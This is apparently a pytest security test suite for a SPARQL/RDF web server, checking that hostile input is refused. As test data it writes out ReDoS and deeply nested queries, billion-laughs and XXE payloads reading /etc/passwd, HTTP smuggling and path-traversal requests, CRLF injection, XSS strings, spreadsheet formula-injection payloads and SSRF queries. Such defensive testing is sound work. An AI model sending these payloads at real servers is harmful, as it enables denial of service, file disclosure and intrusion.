"""Each attack is refused or harmless, the server lives, and others are served meanwhile.

What one request may weigh and how long it may take is tested where it is counted; here a server
that runs as its own process is attacked from one address and asked from another.
"""

from __future__ import annotations

import csv
import json
import socket
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from legation.terms import DCT, LGN
from serve.attacked import Canary, client, others_are_served, ring, said
from served import SHOWN, TOKEN, Server

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="queries are isolated on Linux"),
]

THREE = "?a <urn:name> ?x . ?b <urn:name> ?y . ?c <urn:name> ?z"
PRODUCT = f"SELECT (COUNT(*) AS ?n) {{ {THREE} . ?d <urn:name> ?w }}"
#: What takes too long or too much is ended, by the clock or by the memory.
ENDED = {504, 507}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Serve a ring of things."""
    with ring(tmp_path_factory.mktemp("attacked")) as server:
        yield server


@pytest.fixture(scope="module")
def attacker(server: Server) -> Iterator[httpx.Client]:
    """Return a client without a token."""
    with client(server) as found:
        yield found


@pytest.fixture(scope="module")
def writer(server: Server) -> Iterator[httpx.Client]:
    """Return a client with the token: what it sends may still be hostile."""
    with client(server) as found:
        found.headers.update(SHOWN)
        yield found


@pytest.fixture
def canary() -> Iterator[Canary]:
    """Return a listener that nobody may call."""
    found = Canary()
    yield found
    found.close()


def _doubling() -> str:
    steps = (f"BIND(CONCAT({', '.join([f'?v{n}'] * 10)}) AS ?v{n + 1})" for n in range(9))
    return f"SELECT * {{ BIND('long and ' AS ?v0) {' '.join(steps)} }}"


def _values(rows: int, *names: str) -> str:
    numbers = " ".join(map(str, range(rows)))
    return " ".join(f"VALUES ?{name} {{ {numbers} }}" for name in names)


HEAVY = {
    "product": PRODUCT,
    "product of values": f"SELECT (COUNT(*) AS ?n) {{ {_values(900, *'abcd')} }}",
    "filtered product": f"ASK {{ {THREE} FILTER(?x > ?y && ?y > ?z && ?z > ?x) }}",
    "unbounded path": "SELECT (COUNT(*) AS ?n) { ?a (<urn:follows>|^<urn:follows>)* ?b }",
    "nested paths": "SELECT (COUNT(*) AS ?n) { ?a ((<urn:follows>*)+/(^<urn:follows>)*)+ ?b }",
    "negated path": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)*/(^(!<urn:x>))* ?b . ?b !<urn:y> ?c }",
    "sorting": f"SELECT * {{ {THREE} }} ORDER BY ?z DESC(?y) ?x",
    "joining": f"SELECT (GROUP_CONCAT(CONCAT(?x, ?y)) AS ?l) {{ {THREE} }}",
    "distinct": f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {THREE} }}",
    "grouping": f"SELECT ?x ?y ?z (SAMPLE(?a) AS ?s) {{ {THREE} }} GROUP BY ?x ?y ?z",
    "doubling": _doubling(),
    "regex": f'ASK {{ {THREE} FILTER REGEX(CONCAT(?x, ?y, ?z), "(t+h+)+(i+n+)+(g+ ?)+$", "i") }}',
    "replacing": f'ASK {{ {THREE} FILTER(REPLACE(CONCAT(?x, ?y, ?z), "(.)", "$1$1$1") = "") }}',
    "exists": f"ASK {{ {THREE} FILTER NOT EXISTS {{ ?a ?p ?q . ?q ?r ?t . ?u ?v ?w }} }}",
    "minus": f"SELECT (COUNT(*) AS ?n) {{ {THREE} MINUS {{ ?d ?e ?f . ?g ?h ?i . ?a <urn:z> ?f }} }}",
    "optional": f"SELECT (COUNT(*) AS ?n) {{ {THREE} OPTIONAL {{ ?d ?e ?f OPTIONAL {{ ?g ?h ?i }} }} }}",
    "building": f"CONSTRUCT {{ ?a <urn:x> ?y . ?b <urn:x> ?z }} {{ {THREE} FILTER(?x = CONCAT(?y, ?z)) }}",
    "hashing": f"ASK {{ {THREE} FILTER(SHA512(CONCAT(SHA512(?x), SHA512(?y), ?z)) = '') }}",
}


def _ask(asking: httpx.Client, query: str) -> httpx.Response:
    return asking.post(
        "/sparql", content=query.encode(), headers={"Content-Type": "application/sparql-query"}
    )


def test_heavy_queries_are_ended(server: Server, attacker: httpx.Client) -> None:
    """What multiplies, sorts, joins or walks without end runs into the limits of time or memory."""
    with others_are_served(server), ThreadPoolExecutor(3) as threads:
        answers = threads.map(lambda query: _ask(attacker, query), HEAVY.values())
        found = {name: got.status_code for name, got in zip(HEAVY, answers, strict=True)}
    assert {name: code for name, code in found.items() if code not in ENDED} == {}


def test_a_regex_that_would_grow_is_no_pattern(server: Server, attacker: httpx.Client) -> None:
    """Repetitions of repetitions are not compiled, and take no time."""
    grown = "(((a{99}){99}){99}){99}"
    with others_are_served(server):
        got = _ask(attacker, f'SELECT ?m {{ ?a <urn:name> ?x BIND(REGEX(?x, "{grown}") AS ?m) }}')
    assert got.status_code in {200, *ENDED}


def test_a_flood_of_answers_is_cut(server: Server, attacker: httpx.Client) -> None:
    """An answer without end is broken off, so that nobody takes it for the whole."""
    with others_are_served(server), pytest.raises(httpx.RemoteProtocolError):
        attacker.get(
            "/sparql", params={"query": f"SELECT * {{ {THREE} }}"}, headers={"Accept": "text/csv"}
        )


def test_many_at_once_are_told_to_come_again(server: Server) -> None:
    """Who sends more than the queue holds hears 503 and when to try again; others are served."""
    with others_are_served(server), ThreadPoolExecutor(20) as threads, client(server) as crowd:
        answers = list(threads.map(lambda _: _ask(crowd, PRODUCT), range(20)))
    refused = [got for got in answers if got.status_code == 503]
    assert refused
    assert all(int(got.headers["retry-after"]) >= 1 for got in refused)
    assert {got.status_code for got in answers} <= {503, *ENDED}


NESTED = {
    "groups": "ASK " + "{" * 20_000 + "}" * 20_000,
    "unclosed": "ASK " + "{" * 20_000,
    "brackets": f"ASK {{ FILTER{'(' * 20_000}1{')' * 20_000} }}",
    "selects": "SELECT * " + "{ SELECT * " * 5_000 + "{}" + "}" * 5_000,
    "functions": f"ASK {{ FILTER({'STR(' * 20_000}1{')' * 20_000}) }}",
    "blank nodes": f"ASK {{ ?s ?p {'[ ?p ' * 20_000}1{']' * 20_000} }}",
    "collections": f"ASK {{ ?s ?p {'( ' * 20_000}1{')' * 20_000} }}",
    "paths": f"ASK {{ ?s {'(' * 20_000}<urn:p>{')*' * 20_000} ?o }}",
    "template": f"CONSTRUCT {{ ?s ?p {'( ' * 20_000}{')' * 20_000} }} {{}}",
    "optionals": "ASK {" + "OPTIONAL {" * 9_000 + "}" * 9_001,
    "exists": "ASK {" + "FILTER EXISTS {" * 9_000 + "}" * 9_001,
    "quoted triples": f"ASK {{ {'<< ' * 20_000}?s ?p ?o{' >> ?p ?o' * 20_000} }}",
    "negations": f"ASK {{ FILTER({'!' * 100_000}true) }}",
    "signs": f"ASK {{ FILTER({'- ' * 50_000}1 > 0) }}",
    "sums": f"ASK {{ FILTER({'1+' * 100_000}1 > 0) }}",
    "or": f"ASK {{ FILTER({'true||' * 20_000}true) }}",
    "unions": "ASK {" + "{} UNION " * 20_000 + "{} }",
    "binds": "ASK {" + "".join(f"BIND({n} AS ?v{n}) " for n in range(9_000)) + "}",
    "patterns": "ASK {" + "?s ?p ?o . " * 20_000 + "}",
    "joined patterns": "ASK {" + "".join(f"?v{n} ?p ?v{n + 1} . " for n in range(2_000)) + "}",
    "steps": f"ASK {{ ?s {'<urn:p>/' * 20_000}<urn:p> ?o }}",
    "alternatives": f"ASK {{ ?s {'<urn:p>|' * 20_000}<urn:p> ?o }}",
    "rows": f"ASK {{ {_values(30_000, 'a')} }}",
    "rows of rows": "ASK { VALUES (?a ?b) {" + "(1 2)" * 30_000 + "} }",
    "hidden in less-than": f"ASK {{ FILTER(?a<{'(' * 20_000}1{')' * 20_000}&&1>0) }}",
    "hidden in a comment": "ASK #{{\n" + "{" * 20_000,
    "a long literal": f"ASK {{ ?s ?p '{'x' * 300_000}' }}",
    "quotation marks": 'ASK { ?s ?p "' + '\\"' * 100_000,
    "long strings": "ASK { " + '"""\n\\' * 40_000,
    "dots": "ASK { " + "a." * 100_000,
    "letters": "ASK { " + "é." * 20_000,
}


@pytest.mark.parametrize("name", NESTED)
def test_what_is_nested_or_huge_is_refused(
    server: Server, attacker: httpx.Client, name: str
) -> None:
    """It never reaches the engine, which a few kilobytes of brackets would end."""
    with others_are_served(server):
        got = _ask(attacker, NESTED[name])
    assert got.status_code == 400, got.text
    assert got.json()["status"] == 400


def test_long_queries_one_after_the_other_keep_nobody_waiting(server: Server) -> None:
    """To look at what may just be sent takes long, and is done beside what others ask."""
    long = f"ASK {{ FILTER(1 IN ({'1,' * 100_000}1)) }}"
    with others_are_served(server), ThreadPoolExecutor(4) as threads, client(server) as crowd:
        answers = list(threads.map(lambda _: _ask(crowd, long), range(5)))
    assert {got.status_code for got in answers} <= {200, 503, *ENDED}


def test_the_queries_of_an_hour_of_chance_end_no_server(
    server: Server, attacker: httpx.Client
) -> None:
    """Odd bytes and odd parameters are answered with 400, or as what they are."""
    odd = (
        "query=ASK%7B%7D&query=ASK%7B%7D", "query=%00", "query=%ff%fe", "query=", "query",
        "query=ASK%7B%7D&default-graph-uri=relative", "query=ASK%7B%7D&default-graph-uri=%0d%0a",
        "&" * 2_000, "a=b&" * 2_000, "query=" + "%F0%9F%98%80" * 500,
    )  # fmt: skip
    with others_are_served(server):
        codes = {text[:40]: attacker.get(f"/sparql?{text}").status_code for text in odd}
        codes["accept"] = attacker.get(
            "/sparql?query=ASK%7B%7D", headers={"Accept": "a/b;q=," * 4_000}
        ).status_code
        codes["language"] = attacker.get(
            "/", headers={"Accept-Language": "a-" * 15_000}
        ).status_code
    assert {name: code for name, code in codes.items() if code not in {200, 400, 406}} == {}


DEEP = 20_000
TURTLE, XML, JSONLD = "text/turtle", "application/rdf+xml", "application/ld+json"
ENTITIES = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(12))
RDF_XML = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e:">{}</rdf:RDF>'
)
HOSTILE = {
    "JSON-LD in lists": (JSONLD, "[" * DEEP + "]" * DEEP),
    "JSON-LD in objects": (JSONLD, '{"urn:p":' * DEEP + "1" + "}" * DEEP),
    "Turtle in blank nodes": (TURTLE, "<urn:s> <urn:p> " + "[ <urn:p> " * DEEP + "1" + "]" * DEEP + "."),
    "Turtle in collections": (TURTLE, "<urn:s> <urn:p> " + "(" * DEEP + ")" * DEEP + "."),
    "RDF/XML": (
        XML, RDF_XML.format("<e:N><e:p>" * (DEEP // 4) + "</e:p></e:N>" * (DEEP // 4))
    ),
    "many laughs": (
        XML, f'<!DOCTYPE r [<!ENTITY e0 "ha">{ENTITIES}]>' + RDF_XML.format("<e:N e:p='&e12;'/>")
    ),
    "a file as an entity": (
        XML, '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        + RDF_XML.format("<e:N><e:p>&f;</e:p></e:N>"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_data_that_would_end_a_parser_is_refused(
    server: Server, writer: httpx.Client, name: str
) -> None:
    """Nesting without end and a DOCTYPE are refused with a sentence, and nothing is written."""
    media, body = HOSTILE[name]
    with others_are_served(server):
        got = writer.put("/store?graph=urn:hostile", content=body, headers={"Content-Type": media})
    assert got.status_code == 400, got.text
    assert writer.get("/store?graph=urn:hostile").status_code == 404


def test_an_update_is_looked_at_like_a_query(server: Server, writer: httpx.Client) -> None:
    """Nesting in an update ends no writer."""
    texts = (
        f"INSERT DATA {{ <urn:s> <urn:p> {'(' * 20_000}{')' * 20_000} }}",
        "INSERT { <urn:s> <urn:p> 1 } WHERE " + "{" * 20_000 + "}" * 20_000,
        "INSERT DATA { <urn:s> <urn:p> '" + '\\"' * 50_000,
    )
    with others_are_served(server):
        for text in texts:
            got = writer.post("/update", data={"update": text})
            assert got.status_code == 400, got.text


def test_nobody_is_called(
    server: Server, attacker: httpx.Client, writer: httpx.Client, canary: Canary
) -> None:
    """No query, no update and no data makes the server, or a worker, open a connection."""
    there = canary.url
    # The canary sings: what follows would be seen.
    socket.create_connection(("127.0.0.1", canary.port)).close()
    assert canary.visits() == 1
    for query in (
        f"ASK {{ SERVICE <{there}> {{ ?s ?p ?o }} }}",
        f"ASK {{ SERVICE SILENT <{there}> {{ ?s ?p ?o }} }}",
        f"ASK {{ VALUES ?e {{ <{there}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
        f"ASK {{ {{ SELECT * {{ FILTER EXISTS {{ SERVICE <{there}> {{}} }} }} }} }}",
        f"LOAD <{there}>",
    ):
        assert _ask(attacker, query).status_code in {400, 403}, query
    for query in (
        f"ASK FROM <{there}> {{ ?s ?p ?o }}",
        f"ASK FROM NAMED <{there}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"ASK {{ GRAPH <{there}> {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{there}>",
    ):
        assert _ask(attacker, query).status_code == 200, query
    asked = {"query": "ASK { ?s ?p ?o }", "default-graph-uri": there, "named-graph-uri": there}
    assert attacker.get("/sparql", params=asked).json()["boolean"] is False
    for path in ("/about", "/store", "/about.html"):
        attacker.get(path, params={"iri": there, "graph": there})
    for update in (
        f"LOAD <{there}>",
        f"LOAD SILENT <{there}> INTO GRAPH <urn:g>",
        "LOAD <file:///etc/passwd>",
    ):
        assert writer.post("/update", data={"update": update}).status_code == 403
    context = json.dumps({"@context": f"{there}c", "name": "x"})
    importing = json.dumps({"@context": {"@version": 1.1, "@import": f"{there}i"}, "name": "x"})
    for media, body, expected in (
        (JSONLD, context, {400}),
        (JSONLD, importing, {400}),
        (TURTLE, f"<urn:o> <http://www.w3.org/2002/07/owl#imports> <{there}> .", {201}),
        (TURTLE, f"@base <{there}> . <a> <b> <c> .", {201}),
        (XML, f'<!DOCTYPE r SYSTEM "{there}">' + RDF_XML.format(""), {400}),
    ):
        graph = f"urn:canary:{hash(body)}"
        got = writer.put(f"/store?graph={graph}", content=body, headers={"Content-Type": media})
        assert got.status_code in expected, (body, got.text)
    assert canary.visits() == 0


def _raw(line: str, *headers: str, body: str = "") -> bytes:
    return "\r\n".join([line, *headers, "", body]).encode("latin-1")


OWN, CLOSE = "Host: localhost", "Connection: close"
RAW = {
    "a forged host": (_raw("GET / HTTP/1.1", "Host: example.org", CLOSE), {421}),
    "a host in the target": (
        _raw("GET http://example.org/health HTTP/1.1", "Host: example.org", CLOSE), {421}
    ),
    "forwarded hosts": (
        _raw("GET /health HTTP/1.1", "Host: example.org", "X-Forwarded-Host: localhost", CLOSE),
        {421},
    ),
    "two lengths": (
        _raw("POST /sparql HTTP/1.1", OWN, "Content-Length: 4", "Content-Length: 9", CLOSE), {400}
    ),
    "length and chunks": (
        _raw(
            "POST /sparql HTTP/1.1", OWN, "Content-Length: 6", "Transfer-Encoding: chunked", CLOSE,
            body="0\r\n\r\nGET /update HTTP/1.1\r\nHost: localhost\r\n\r\n",
        ),
        {400, 415},
    ),
    "a negative length": (_raw("POST /sparql HTTP/1.1", OWN, "Content-Length: -1", CLOSE), {400}),
    "a huge length": (
        _raw("POST /sparql HTTP/1.1", OWN, "Content-Length: " + "9" * 30, CLOSE), {400, 413}
    ),
    "a huge chunk": (
        _raw(
            "POST /sparql HTTP/1.1", OWN, "Transfer-Encoding: chunked",
            "Content-Type: application/sparql-query", CLOSE, body="FFFFFFFFFFFFFFFFF\r\n",
        ),
        {400},
    ),
    "another method": (_raw("BREW /sparql HTTP/1.1", OWN, CLOSE), {400, 405}),
    "a tunnel": (_raw("CONNECT example.org:443 HTTP/1.1", "Host: example.org:443", CLOSE), {400, 404, 405, 421}),
    "a trace": (_raw("TRACE /sparql HTTP/1.1", OWN, "Cookie: a=b", CLOSE), {405}),
    "other protocols": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 404, 405, 421}),
    "TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500, {400}),
    "a line without end": (b"GET /" + b"a" * 200_000, {400, 414, 431}),
    "a file": (_raw("GET /static/../../../../../etc/passwd HTTP/1.1", OWN, CLOSE), {400, 404}),
    "an encoded file": (_raw("GET /static/%2e%2e%2f%2e%2e%2fapp.py HTTP/1.1", OWN, CLOSE), {400, 404}),
    "a doubly encoded file": (_raw("GET /%252e%252e/%252e%252e/current HTTP/1.1", OWN, CLOSE), {400, 404}),
    "a nul": (_raw("GET /sources%00.html HTTP/1.1", OWN, CLOSE), {400, 404}),
    "a broken line": (
        _raw("GET /about?iri=urn:x%0d%0aSet-Cookie:%20a=b HTTP/1.1", OWN, CLOSE), {400, 404}
    ),
    "a broken question": (
        _raw("GET /questions/a%0d%0aSet-Cookie:%20a=b HTTP/1.1", OWN, CLOSE), {400, 404}
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", RAW)
def test_requests_that_are_none_are_refused(server: Server, name: str) -> None:
    """Forged hosts, smuggled requests, other protocols, paths that climb, broken lines."""
    sent, expected = RAW[name]
    with others_are_served(server):
        answer = said(server, sent)
    head, _, _ = answer.partition(b"\r\n\r\n")
    assert int(head.split()[1]) in expected, answer
    assert b"set-cookie" not in head.lower()
    assert b"root:" not in answer
    assert answer.count(b"HTTP/1.1 ") == 1


def test_an_upgrade_is_not_taken(server: Server) -> None:
    """No other protocol is spoken on a connection."""
    sent = _raw(
        "GET /health HTTP/1.1", OWN, "Upgrade: websocket", "Connection: Upgrade, close",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 13",
    )  # fmt: skip
    with others_are_served(server):
        assert not said(server, sent).startswith(b"HTTP/1.1 101")


def test_who_dawdles_or_takes_nothing_holds_nothing(server: Server) -> None:
    """Heads and bodies that drip, and answers that nobody reads, end; others are served."""
    flood = f"SELECT * {{ {THREE} }}".encode()
    posted = (
        b"POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/sparql-query\r\n"
        b"Content-Length: %d\r\n\r\n"
    )
    begun = [b"", b"GET /health HTTP/1.1\r\nHo", posted % 500 + b"ASK", posted % len(flood) + flood]
    with others_are_served(server), ExitStack() as held:
        connections = [
            held.enter_context(socket.create_connection(("127.0.0.1", server.port), 30))
            for _ in range(4 * len(begun))
        ]
        for n, connection in enumerate(connections):
            connection.sendall(begun[n % len(begun)])
        # Nobody reads for longer than the server is patient with that.
        time.sleep(4)
        assert max(map(_left, connections)) < 32 << 20


def _left(connection: socket.socket) -> int:
    """Return how many bytes were still to be had of a connection, which the other side has closed."""
    size = 0
    with suppress(ConnectionResetError):
        while more := connection.recv(1 << 20):
            size += len(more)
    return size


def test_bodies_without_end_and_bombs_are_refused(
    server: Server, attacker: httpx.Client, writer: httpx.Client
) -> None:
    """What does not end is refused while it comes, what is compressed unread."""

    def endless() -> Iterator[bytes]:
        while True:
            yield b"# nothing\n" * 10_000

    query = {"Content-Type": "application/sparql-query"}
    with others_are_served(server):
        got = attacker.post("/sparql", content=endless(), headers=query)
        assert got.status_code == 413
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        got = attacker.post("/sparql", content=b"&a=b" * 200_000, headers=form)
        assert got.status_code == 400
        for encoding in ("gzip", "deflate", "br", "zstd", "gzip, gzip"):
            bomb = {"Content-Encoding": encoding, "Content-Type": TURTLE}
            got = writer.put("/store?graph=urn:bomb", content=b"\x1f\x8b" * 1_000, headers=bomb)
            assert got.status_code == 415
            got = attacker.post("/sparql", content=b"\x1f\x8b", headers={**query, **bomb, **query})
            assert got.status_code == 415


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://example.org"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {
            "Origin": "https://example.org",
            "Sec-Fetch-Site": "cross-site",
            "Cookie": f"token={TOKEN}",
        },
    ],
)
def test_a_form_of_another_site_changes_nothing(
    server: Server, attacker: httpx.Client, writer: httpx.Client, headers: dict[str, str]
) -> None:
    """Neither with the token nor without it, and a browser is not told that it may ask."""
    update = {"update": "INSERT DATA { <urn:forged> <urn:p> 1 }"}
    with others_are_served(server):
        for asking in (attacker, writer):
            got = asking.post("/update", data=update, headers=headers)
            assert got.status_code in {401, 403}
            assert "access-control-allow-origin" not in got.headers
            plain = {"Content-Type": "text/plain", **headers}
            got = asking.post("/update", content=b"update=CLEAR ALL", headers=plain)
            assert got.status_code in {401, 403}
        preflight = {**headers, "Access-Control-Request-Method": "POST"}
        got = attacker.options("/update", headers=preflight)
        assert "access-control-allow-origin" not in got.headers
        assert _ask(attacker, "ASK { <urn:forged> ?p ?o }").json()["boolean"] is False


EVIL = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "template": "{{ 7 * 7 }}{% raw %}",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"open")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "end of a tag": "</title></script><svg onload=alert(1)>",
    "other way": "\u202egpj.exe",
}
LINKS = ("javascript:alert(1)", "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "vbscript:x")
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"


class _Page(HTMLParser):
    """Finds what would run in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note scripts, pictures that nobody put there, handlers, and links that run."""
        if tag in {"script", "iframe", "object", "embed", "svg", "img", "style", "base"}:
            self.active.append(tag)
        for name, value in attrs:
            target = (value or "").strip().lower()
            runs = target.startswith(("javascript:", "data:", "vbscript:"))
            if (
                name.startswith("on")
                or name == "style"
                or (name in {"href", "src", "action"} and runs)
            ):
                self.active.append(f"{tag} {name}={value}")


@pytest.fixture(scope="module")
def hostile(writer: httpx.Client) -> str:
    """Put data into the graph whose labels and IRIs are written to be run; return the thing."""
    literals = "".join(f"<urn:evil> <{LABEL}> {json.dumps(text)} .\n" for text in EVIL.values())
    links = "".join(
        f"<urn:evil> <urn:link> <{link}> . <{link}> <{LABEL}> 'x' .\n" for link in LINKS
    )
    source = (
        f"<urn:evil> a <{LGN}Source> ; <{LGN}language> 'en' ;"
        f" <{DCT}title> {json.dumps(EVIL['formula'])} , {json.dumps(EVIL['command'])} .\n"
    )
    odd = f"<urn:it's> <{LABEL}> \"'\" . <urn:evil> <urn:link> <urn:it's&amp;(1)> .\n"
    got = writer.post(
        "/store?default",
        content=(literals + links + odd + source).encode(),
        headers={"Content-Type": TURTLE},
    )
    assert got.status_code in {200, 201, 204}, got.text
    return "urn:evil"


def _in_time(attacker: httpx.Client, path: str, **asked: Any) -> httpx.Response:
    """Ask again where a busy machine did not answer within the short limit of this server."""
    for _ in range(5):
        got = attacker.get(path, **asked)
        if got.status_code not in {503, 504}:
            break
    return got


def test_hostile_labels_and_iris_do_not_run_in_pages(attacker: httpx.Client, hostile: str) -> None:
    """They are text, in pages of things and in refusals; the policy forbids what is inline."""
    for iri in (hostile, *LINKS, "urn:it's"):
        got = attacker.get("/about.html", params={"iri": iri})
        assert got.status_code == 200, got.text
        assert _Page(got.text).active == []
        assert "{{ 7 * 7 }}" in got.text or iri != hostile
        assert "script-src" not in got.headers["content-security-policy"]
        assert got.headers["content-security-policy"].startswith("default-src 'self'")
    browser = {"Accept": "text/html"}
    for text in EVIL.values():
        for path in ("/about", "/sparql", "/questions/visits/between", f"/{text.replace('/', '')}"):
            params = {"iri": text, "query": text, "a": text, "b": text, "lang": text}
            got = _in_time(attacker, path, params=params, headers=browser)
            assert got.status_code in {400, 404, 406}
            assert got.headers["content-type"] == "text/html; charset=utf-8"
            assert _Page(got.text).active == []


def test_hostile_labels_are_data_in_json_and_csv(attacker: httpx.Client, hostile: str) -> None:
    """JSON is never taken for a page; the CSV of SPARQL is verbatim, by its definition."""
    query = f"SELECT ?l {{ <{hostile}> <{LABEL}> ?l }}"
    got = attacker.get("/sparql", params={"query": query}, headers={"Accept": "*/*"})
    assert got.headers["content-type"].startswith("application/sparql-results+json")
    assert got.headers["x-content-type-options"] == "nosniff"
    labels = {row["l"]["value"] for row in got.json()["results"]["bindings"]}
    assert labels == set(EVIL.values())
    got = attacker.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert got.headers["content-type"].startswith("text/csv")
    assert EVIL["command"] in got.text
    told = attacker.get("/sparql", params={"query": f"SELECT <{EVIL['script']}>"})
    assert told.headers["content-type"] == "application/problem+json"
    assert told.json()["status"] == 400


def test_spreadsheets_run_no_cell_of_an_answer(attacker: httpx.Client, hostile: str) -> None:
    """What begins like a formula begins with an apostrophe in the CSV of questions."""
    got = _in_time(attacker, "/questions/sources/list.csv")
    assert got.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(got.text.splitlines()) for cell in row]
    assert hostile in cells
    assert {f"'{EVIL['formula']}", f"'{EVIL['command']}"} <= set(cells)
    assert [cell for cell in cells if cell.startswith(("=", "@"))] == []


def test_pages_that_are_asked_for_all_at_once_keep_nobody_waiting(server: Server) -> None:
    """Who asks for many pages gets them one after the other, or hears that it is too many."""
    paths = ("/", "/sources", "/.well-known/void", "/about.html?iri=urn:Thing", "/openapi.json",
             "/about.ttl?iri=urn:t:1", "/ns.html", "/questions")  # fmt: skip
    with others_are_served(server), ThreadPoolExecutor(20) as threads, client(server) as crowd:
        codes = set(threads.map(lambda path: crowd.get(path).status_code, paths * 6))
    assert codes <= {200, 503}


def test_the_server_has_lived_through_it(server: Server, attacker: httpx.Client) -> None:
    """Nothing runs or waits any more, no error was unforeseen, and the log has no token."""
    told = attacker.get("/health").json()
    assert (told["status"], told["waiting"]) == ("ok", 0)
    log = server.told()
    assert TOKEN not in log
    assert '"trace"' not in log
    for line in log.splitlines():
        json.loads(line)
